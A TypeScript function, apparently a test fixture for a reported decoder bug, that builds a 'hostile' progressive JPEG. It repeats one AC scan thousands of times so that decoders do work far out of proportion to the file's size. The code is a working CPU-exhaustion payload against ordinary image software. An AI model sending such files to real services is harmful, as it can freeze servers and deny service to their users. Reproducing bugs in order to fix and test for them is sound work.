/**
 * A hostile progressive JPEG, built byte by byte: a grey `size` x `size` image whose first
 * AC scan (Ss=1, Se=5) is repeated `acScans` times. Each scan is a few bytes (every block's
 * band ends at once, coded as end-of-band runs), but a decoder walks every block of the image
 * for each one: the file of issue #21.1 (4096 x 4096, 10,000 scans, 478 KB) froze the server.
 */

function segment(marker: number, payload: number[]): number[] {
  const length = payload.length + 2;
  return [0xff, marker, length >> 8, length & 255, ...payload];
}

/** MSB-first bit writer with JPEG byte stuffing (0xFF is followed by 0x00), padded with 1s. */
function entropy(bits: string): number[] {
  const padded = bits + "1".repeat((8 - (bits.length % 8)) % 8);
  const out: number[] = [];
  for (let i = 0; i < padded.length; i += 8) {
    const byte = parseInt(padded.slice(i, i + 8), 2);
    out.push(byte);
    if (byte === 0xff) out.push(0x00);
  }
  return out;
}

export function hostileProgressiveJpeg(size: number, acScans: number): Uint8Array {
  const blocks = Math.ceil(size / 8) ** 2;
  const bytes: number[] = [0xff, 0xd8];
  bytes.push(...segment(0xdb, [0x00, ...new Array(64).fill(1)])); // DQT 0, all ones
  // SOF2 (progressive): 8-bit, size x size, one component (id 1, 1x1 sampling, table 0).
  bytes.push(...segment(0xc2, [8, size >> 8, size & 255, size >> 8, size & 255, 1, 1, 0x11, 0]));
  // DC table 0: one symbol, category 0 (difference 0), code "00".
  bytes.push(...segment(0xc4, [0x00, 0, 1, ...new Array(14).fill(0), 0x00]));
  // AC table 0: EOBRUN symbols 0x10 (run 2-3) and 0xE0 (run 16384-32767), codes "00" and "01".
  bytes.push(...segment(0xc4, [0x10, 0, 2, ...new Array(14).fill(0), 0x10, 0xe0]));
  // DC first scan: every block's DC difference is 0.
  bytes.push(...segment(0xda, [1, 1, 0x00, 0, 0, 0x00]));
  bytes.push(...entropy("00".repeat(blocks)));
  // AC scan Y, Ss=1, Se=5, Ah=Al=0: every block's band is empty, as end-of-band runs.
  let bits = "";
  let left = blocks;
  while (left >= 16384) {
    const run = Math.min(left, 32767);
    bits += "01" + (run - 16384).toString(2).padStart(14, "0");
    left -= run;
  }
  while (left > 0) {
    // EOB1 covers 2 or 3 blocks; a last single block is EOB0 (symbol 0x00) - avoided by size.
    const run = left >= 4 || left === 3 ? (left === 3 ? 3 : 2) : 2;
    bits += "00" + (run - 2).toString(2);
    left -= run;
  }
  const acScan = [...segment(0xda, [1, 1, 0x00, 1, 5, 0x00]), ...entropy(bits)];
  for (let i = 0; i < acScans; i++) bytes.push(...acScan);
  bytes.push(0xff, 0xd9);
  return new Uint8Array(bytes);
}
